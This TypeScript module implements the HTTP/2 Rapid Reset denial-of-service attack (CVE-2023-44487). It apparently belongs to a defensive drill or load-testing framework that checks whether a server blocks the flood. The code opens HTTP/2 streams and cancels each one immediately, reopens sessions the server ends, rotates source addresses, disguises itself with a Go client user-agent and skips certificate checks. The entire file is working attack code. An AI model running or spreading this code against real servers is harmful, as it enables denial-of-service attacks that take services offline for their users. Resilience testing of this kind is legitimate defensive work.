// HTTP/2 Rapid Reset (CVE-2023-44487): streams opened and cancelled at once on a few sessions, so the
// server starts work for each and the client never waits. A session the server ends is reopened.
// Outcome of a stream: an answer that beat the reset is classified; a stream the server refused, or
// one lost with its session, is blocked; a stream the server took and we reset is reached.

import http2, { type ClientHttp2Session, type ClientHttp2Stream } from 'node:http2';
import { type Random, randomToken } from './attack-requests.js';
import { type AttackOutcome, classifyAnswer, classifyFailure } from './outcome.js';
import type { DrillTarget } from './target.js';
import { type AttackPart, type AttackRecorder, settled } from './traffic.js';

export interface RapidResetOptions {
  rate: number;
  target: DrillTarget;
  sources: (string | undefined)[];
  random: Random;
  record: AttackRecorder;
}

const MAX_STREAMS_PER_SESSION = 100;
/** A source reopens its session at most this often. */
const RECONNECT_MS = 50;
const SLOT_TRIES = 4;
const { NGHTTP2_CANCEL } = http2.constants;

interface Lane {
  session: ClientHttp2Session;
  openedAt: number;
  streams: number;
  gone: boolean;
  error: Error | undefined;
}

export class RapidReset implements AttackPart {
  readonly name = 'h2-rapid-reset';
  readonly rate: number;
  private readonly lanes: (Lane | undefined)[];
  private cursor = 0;
  private streams = 0;
  private closed = false;
  private sessionsOpened = 0;
  private sessionsEnded = 0;

  constructor(private readonly opts: RapidResetOptions) {
    this.rate = opts.rate;
    this.lanes = new Array(opts.sources.length);
  }

  fire(): boolean {
    if (this.closed) return false;
    const now = performance.now();
    for (let tries = 0; tries < SLOT_TRIES; tries++) {
      const i = this.cursor;
      this.cursor = (i + 1) % this.lanes.length;
      let lane = this.lanes[i];
      if (lane === undefined || lane.gone) {
        if (lane !== undefined && now - lane.openedAt < RECONNECT_MS) continue;
        lane = this.connect(i, now);
      }
      if (lane.streams >= MAX_STREAMS_PER_SESSION) continue;
      this.stream(lane);
      return true;
    }
    return false;
  }

  private connect(i: number, now: number): Lane {
    const { target, sources } = this.opts;
    const localAddress = sources[i];
    const session = http2.connect(target.connectOrigin, {
      rejectUnauthorized: false,
      ...(target.servername ? { servername: target.servername } : {}),
      ...(localAddress ? { localAddress } : {}),
    });
    const lane: Lane = { session, openedAt: now, streams: 0, gone: false, error: undefined };
    this.sessionsOpened++;
    const ended = () => {
      if (!lane.gone && !this.closed) this.sessionsEnded++;
      lane.gone = true;
    };
    session.on('error', (error) => {
      lane.error ??= error;
      ended();
    });
    session.on('goaway', ended);
    session.once('close', () => {
      lane.gone = true;
    });
    this.lanes[i] = lane;
    return lane;
  }

  private stream(lane: Lane): void {
    const { target, random, record } = this.opts;
    let stream: ClientHttp2Stream;
    try {
      stream = lane.session.request(
        {
          ':method': 'GET',
          ':path': `/?${randomToken(random, 8)}`,
          ':authority': target.host,
          'user-agent': 'Go-http-client/2.0',
          accept: '*/*',
        },
        { endStream: true },
      );
    } catch (error) {
      lane.gone = true;
      record.sent();
      record.outcome(classifyFailure(error));
      return;
    }
    lane.streams++;
    this.streams++;
    record.sent();
    let status: number | undefined;
    let failure: unknown;
    let reset = false;
    stream.on('response', (headers) => {
      status = Number(headers[':status']);
    });
    stream.on('error', (error) => {
      failure ??= error;
    });
    const cancel = () => {
      reset = true;
      stream.close(NGHTTP2_CANCEL);
    };
    // on a connected session the stream has its id (and its HEADERS queued) as soon as request() returns
    if (stream.pending) stream.once('ready', cancel);
    else cancel();
    stream.once('close', () => {
      lane.streams--;
      this.streams--;
      record.outcome(this.outcomeOf(lane, stream, status, reset, failure));
    });
  }

  private outcomeOf(
    lane: Lane,
    stream: ClientHttp2Stream,
    status: number | undefined,
    reset: boolean,
    failure: unknown,
  ): AttackOutcome {
    if (status !== undefined) return classifyAnswer({ status, headers: {}, body: '' });
    if (!reset) {
      // never sent: lost with a session the server cut or refused, or cut by the drill's end
      if (failure !== undefined) return classifyFailure(failure);
      return lane.gone && !this.closed ? 'blocked' : 'unanswered';
    }
    if (stream.rstCode !== undefined && stream.rstCode !== NGHTTP2_CANCEL) return 'blocked';
    return 'reached';
  }

  pending(): number {
    return this.streams;
  }

  notes(): string[] {
    return [
      `h2-rapid-reset: ${this.sessionsOpened} HTTP/2 sessions opened, ${this.sessionsEnded} ended by the server`,
    ];
  }

  async close(): Promise<void> {
    this.closed = true;
    for (const lane of this.lanes) lane?.session.destroy();
    await settled(() => this.streams, 1_000);
  }
}
